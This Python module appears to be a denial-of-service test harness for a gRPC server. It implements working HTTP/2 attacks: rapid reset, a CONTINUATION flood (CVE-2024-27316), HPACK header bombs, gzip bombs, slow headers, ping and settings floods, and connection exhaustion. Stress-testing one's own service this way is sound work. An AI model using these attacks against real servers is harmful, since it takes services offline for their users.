"""Attacks on the door of a server: each is a context manager that holds its calls open.

Every attack is given a :class:`Target` and yields what it managed to send. ``ATTACKS`` names them;
``watched`` tells what they did to other callers and to the server's process.
"""

import asyncio
import contextlib
import os
import socket
import struct
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from typing import Any

import grpc
import grpc.aio
import http2
import wire
from acpc.v1 import anchor_service_pb2, diagnostic_service_pb2, scoring_service_pb2
from google.longrunning import operations_pb2
from grpc_health.v1 import health_pb2

MIB = 2**20
PAIR = "/acpc.v1.DiagnosticService/ComparePair"
STREAMS = {
    "ComparePairs": "/acpc.v1.DiagnosticService/ComparePairs",
    "Plan": "/acpc.v1.DiagnosticService/Plan",
    "UploadAnchors": "/acpc.v1.AnchorService/UploadAnchors",
    "Watch": "/grpc.health.v1.Health/Watch",
    "ServerReflectionInfo": "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo",
}
# Paths and further fields of calls that no library would send.
ODD_HEADERS: tuple[tuple[str, tuple[tuple[bytes, bytes], ...]], ...] = (
    *((path, ()) for path in ("/\udcff\udcfe/x", "", "no-slash", "/" + "x" * 7000, "/a\0/b", "//")),
    *(
        (PAIR, ((name, value),))
        for name, value in (
            (b"te", b"\xff"),
            (b"content-type", b"text/\xff"),
            (b"grpc-timeout", b"-1\xff"),
            (b"grpc-timeout", b"99999999999H"),
            (b"grpc-encoding", b"\xff"),
            (b"host", b"\xff"),
            (b"x-request-id", b"\xff\xfe\0"),
            (b"x-data-bin", b"!!!!"),
            (b"x-\xff", b"value"),
            (b"authorization", b"Bearer \xff\xfe"),
        )
    ),
    (PAIR, ((b"authorization", b"one"), (b"authorization", b"another"))),
)
Notes = dict[str, Any]
Held = contextlib.AbstractContextManager[Notes]


@dataclass(frozen=True)
class Target:
    """Where a server listens, and how the attacker is known there.

    Attributes:
        address: ``host:port`` of gRPC.
        metrics: ``host:port`` of ``/metrics``; empty when it is off.
        operation: Name of a job that has not ended, to wait for.
        headers: What the attacker sends with every call, an API key for example.
        seconds: How long an attack that repeats itself goes on.
    """

    address: str
    metrics: str = ""
    operation: str = ""
    headers: tuple[tuple[bytes, bytes], ...] = ()
    seconds: float = 10.0

    def connect(self, **options: Any) -> http2.Connection:
        """A connection, frames by hand."""
        return http2.Connection(self.address, **options)


Attack = Callable[[Target], Held]


@contextmanager
def _repeated(step: Callable[[], None], seconds: float, notes: Notes) -> Iterator[Notes]:
    """Calls ``step`` again and again in a thread, until the server closes or time is up."""
    stop = threading.Event()
    notes |= {"sent": 0, "closed_after_seconds": None}

    def run() -> None:
        started = time.monotonic()
        while not stop.is_set() and time.monotonic() - started < seconds:
            try:
                step()
            except OSError:
                notes["closed_after_seconds"] = round(time.monotonic() - started, 2)
                return
            notes["sent"] += 1

    thread = threading.Thread(target=run)
    thread.start()
    try:
        yield notes
    finally:
        stop.set()
        thread.join()


@contextmanager
def half_open(target: Target, path: str, count: int) -> Iterator[Notes]:
    """Calls that send their headers and never a body."""
    with target.connect() as connection:
        for _ in range(count):
            connection.call(path, *target.headers)
        yield {"calls": count}


def half_open_unary(target: Target) -> Held:
    """88 ComparePair calls without a body."""
    return half_open(target, PAIR, 88)


def half_open_health(target: Target) -> Held:
    """4 Health/Check calls without a body."""
    return half_open(target, "/grpc.health.v1.Health/Check", 4)


@contextmanager
def half_open_every_method(target: Target) -> Iterator[Notes]:
    """20 calls without a body of each of ten unary methods."""
    paths = [PAIR, "/acpc.v1.DiagnosticService/CertifyPool", "/acpc.v1.StudyService/RunStudy"]
    paths += [f"/acpc.v1.CheckpointService/{name}Checkpoint" for name in ("Get", "Load", "Unload")]
    paths += [f"/google.longrunning.Operations/{name}Operation" for name in ("Get", "Wait")]
    paths += ["/acpc.v1.AnchorService/GetUpload", "/grpc.health.v1.Health/Check"]
    with ExitStack() as stack:
        for path in paths:
            stack.enter_context(half_open(target, path, 20))
        yield {"calls": 20 * len(paths)}


def _whole(target: Target, path: str, request: Any, count: int, **options: Any) -> Any:
    """Whole calls over one connection, whose answers are left alone."""

    @contextmanager
    def opened() -> Iterator[Notes]:
        with target.connect(**options) as connection:
            for _ in range(count):
                number = connection.call(path, *target.headers)
                connection.body(number, http2.message(request.SerializeToString()), end=True)
            yield {"calls": count}

    return opened()


def waits(target: Target) -> Held:
    """80 WaitOperation calls for a job that goes on."""
    request = operations_pb2.WaitOperationRequest(name=target.operation, timeout={"seconds": 60})
    return _whole(target, "/google.longrunning.Operations/WaitOperation", request, 80)


@contextmanager
def busy_waits(target: Target) -> Iterator[Notes]:
    """1,000 WaitOperation calls that return at once, and are asked again without end."""
    request = operations_pb2.WaitOperationRequest(name=target.operation, timeout={})
    notes: Notes = {"calls": 1000, "answered": 0}
    over = threading.Event()
    metadata = [(name.decode(), value.decode()) for name, value in target.headers]

    async def attack() -> None:
        async with grpc.aio.insecure_channel(target.address) as channel:
            ask = channel.unary_unary("/google.longrunning.Operations/WaitOperation")

            async def again() -> None:
                while not over.is_set():
                    with contextlib.suppress(grpc.RpcError):
                        await ask(request.SerializeToString(), metadata=metadata)
                        notes["answered"] += 1

            await asyncio.gather(*(again() for _ in range(notes["calls"])))

    thread = threading.Thread(target=lambda: asyncio.run(attack()))
    thread.start()
    try:
        yield notes
    finally:
        over.set()
        thread.join()


def watches(target: Target) -> Held:
    """80 WatchOperation streams of a job that goes on."""
    request = scoring_service_pb2.WatchOperationRequest(name=target.operation)
    return _whole(target, "/acpc.v1.ScoringService/WatchOperation", request, 80)


def health_watches(target: Target) -> Held:
    """80 Health/Watch streams."""
    return _whole(target, STREAMS["Watch"], health_pb2.HealthCheckRequest(), 80)


def idle_streams(kind: str) -> Attack:
    """32 streams of a kind that never send a message."""

    def attack(target: Target) -> Held:
        return half_open(target, STREAMS[kind], 32)

    return attack


@contextmanager
def silent_uploads(target: Target) -> Iterator[Notes]:
    """8 uploads that fall silent after their header."""
    header = anchor_service_pb2.UploadHeader(anchors=12, history=2, horizon=3)
    request = anchor_service_pb2.UploadAnchorsRequest(header=header)
    with target.connect() as connection:
        for index in range(8):
            request.header.request_id = f"silent-{index}"
            number = connection.call(STREAMS["UploadAnchors"], *target.headers)
            connection.body(number, http2.message(request.SerializeToString()))
        yield {"calls": 8}


@contextmanager
def short_bodies(target: Target) -> Iterator[Notes]:
    """20 bodies of 63 MiB that lack their last byte."""
    size, sent = 63 * MIB, [0] * 20
    body = http2.message(bytes(size - 1), length=size)
    with ExitStack() as stack:
        opened = [stack.enter_context(target.connect()) for _ in sent]

        def send(index: int) -> None:
            with contextlib.suppress(OSError):
                number = opened[index].call(PAIR, *target.headers)
                sent[index] = opened[index].body(number, body)

        threads = [threading.Thread(target=send, args=(index,)) for index in range(len(sent))]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(30)
        yield {"calls": len(sent), "mib_taken": sum(sent) // MIB}


@contextmanager
def gzip_bombs(target: Target) -> Iterator[Notes]:
    """4 messages of one MiB of gzip that inflate to one GiB."""
    packer = zlib.compressobj(9, wbits=31)
    bomb = b"".join(packer.compress(bytes(MIB)) for _ in range(1024)) + packer.flush()
    with target.connect() as connection:
        for _ in range(4):
            number = connection.call(PAIR, *target.headers, (b"grpc-encoding", b"gzip"))
            connection.body(number, http2.message(bomb, compressed=True), end=True)
        yield {"calls": 4, "mib_each": round(len(bomb) / MIB, 2)}


@contextmanager
def _tcp(address: str, count: int, first: bytes = b"") -> Iterator[Notes]:
    host, _, port = address.rpartition(":")
    opened: list[socket.socket] = []
    try:
        for _ in range(count):
            with contextlib.suppress(OSError):
                opened.append(socket.create_connection((host, int(port)), timeout=2))
                opened[-1].sendall(first)
        yield {"connections": len(opened)}
    finally:
        for one in opened:
            one.close()


def scrape_connections(target: Target) -> Held:
    """600 connections to /metrics that never finish their request."""
    return _tcp(target.metrics, 600, b"GET /metrics HTTP/1.1\r\n")


def mute_connections(target: Target) -> Held:
    """2,000 connections to gRPC that never speak."""
    return _tcp(target.address, 2000)


@contextmanager
def rapid_reset(target: Target) -> Iterator[Notes]:
    """Calls that are reset as soon as they are made, as fast as they can be sent (rapid reset)."""
    with target.connect() as connection:
        block = http2.request_headers(PAIR, *target.headers)

        def step() -> None:
            pairs = []
            for _ in range(100):
                number = connection.stream()
                pairs.append(http2.frame(http2.HEADERS, http2.END_HEADERS, number, block))
                reset = struct.pack(">I", http2.CANCEL)
                pairs.append(http2.frame(http2.RST_STREAM, 0, number, reset))
            connection.send(b"".join(pairs))

        with _repeated(step, target.seconds, {"of": "100 calls"}) as notes:
            yield notes


@contextmanager
def continuation_flood(target: Target) -> Iterator[Notes]:
    """A header block that never ends (CVE-2024-27316)."""
    with target.connect() as connection:
        number = connection.stream()
        connection.send(http2.frame(http2.HEADERS, 0, number, http2.request_headers(PAIR)))
        field = http2.literal(b"x-filler", b"a" * 16_000)
        flood = http2.frame(http2.CONTINUATION, 0, number, field)
        with _repeated(lambda: connection.send(flood), target.seconds, {"of": "16 kB"}) as notes:
            yield notes


@contextmanager
def header_bomb(target: Target) -> Iterator[Notes]:
    """Header blocks that name one large field of HPACK's table 12,000 times."""
    stored = b"\x40" + http2.literal(b"x-filler", b"a" * 4000)[1:]
    block = http2.request_headers(PAIR) + stored + b"\xbe" * 12_000
    with target.connect() as connection:

        def step() -> None:
            number = connection.stream()
            connection.send(http2.frame(http2.HEADERS, http2.END_HEADERS, number, block))

        with _repeated(step, target.seconds, {"of": "48 MB inflated"}) as notes:
            yield notes


@contextmanager
def odd_headers(target: Target) -> Iterator[Notes]:
    """Calls whose path, timeout, encoding or other headers are no text or make no sense."""

    def step() -> None:
        for path, fields in ODD_HEADERS:
            with contextlib.suppress(OSError), target.connect() as connection:
                connection.call(path, *target.headers, *fields, end=True)

    with _repeated(step, target.seconds, {"of": f"{len(ODD_HEADERS)} calls"}) as notes:
        yield notes


def _flood(kind: int, payload: bytes) -> Attack:
    @contextmanager
    def attack(target: Target) -> Iterator[Notes]:
        with target.connect(reads=False) as connection:
            flood = http2.frame(kind, 0, 0, payload) * 1000

            def step() -> None:
                connection.send(flood)

            with _repeated(step, target.seconds, {"of": "1000 frames"}) as notes:
                yield notes

    return attack


@contextmanager
def slow_headers(target: Target) -> Iterator[Notes]:
    """200 connections that send a byte of their first headers every half second."""
    block = http2.frame(
        http2.HEADERS, http2.END_HEADERS, 1, http2.request_headers(PAIR, (b"x", b"a" * 500))
    )
    with ExitStack() as stack:
        opened = [stack.enter_context(target.connect()) for _ in range(200)]
        left = iter(block)

        def step() -> None:
            byte = bytes([next(left)])
            for connection in opened:
                connection.send(byte)
            time.sleep(0.5)

        with _repeated(step, target.seconds, {"connections": len(opened)}) as notes:
            yield notes


def unread_answers(target: Target) -> Held:
    """88 ComparePair calls whose answers are given no room to be sent."""
    return _whole(target, PAIR, wire.pair(), 88, window=0)


@contextmanager
def unread_streams(target: Target) -> Iterator[Notes]:
    """32 ComparePairs streams of two pairs each whose answers are given no room to be sent."""
    request = diagnostic_service_pb2.ComparePairsRequest(pair_id="unread", pair=wire.pair())
    with target.connect(window=0) as connection:
        for _ in range(32):
            number = connection.call(STREAMS["ComparePairs"], *target.headers)
            connection.body(number, http2.message(request.SerializeToString()) * 2)
        yield {"calls": 32}


@contextmanager
def many_connections(target: Target) -> Iterator[Notes]:
    """200 connections, each with a call that has no body."""
    with ExitStack() as stack:
        for _ in range(200):
            connection = stack.enter_context(target.connect())
            with contextlib.suppress(OSError):
                connection.call(PAIR, *target.headers)
        yield {"connections": 200}


ATTACKS: dict[str, Attack] = {
    "half_open_unary": half_open_unary,
    "half_open_health": half_open_health,
    "half_open_every_method": half_open_every_method,
    "waits": waits,
    "busy_waits": busy_waits,
    "watches": watches,
    "health_watches": health_watches,
    **{f"idle_{kind}": idle_streams(kind) for kind in STREAMS if kind != "Watch"},
    "silent_uploads": silent_uploads,
    "short_bodies": short_bodies,
    "gzip_bombs": gzip_bombs,
    "scrape_connections": scrape_connections,
    "mute_connections": mute_connections,
    "many_connections": many_connections,
    "rapid_reset": rapid_reset,
    "continuation_flood": continuation_flood,
    "header_bomb": header_bomb,
    "odd_headers": odd_headers,
    "settings_flood": _flood(http2.SETTINGS, struct.pack(">HI", http2.INITIAL_WINDOW_SIZE, 1)),
    "ping_flood": _flood(http2.PING, os.urandom(8)),
    "slow_headers": slow_headers,
    "unread_answers": unread_answers,
    "unread_streams": unread_streams,
}
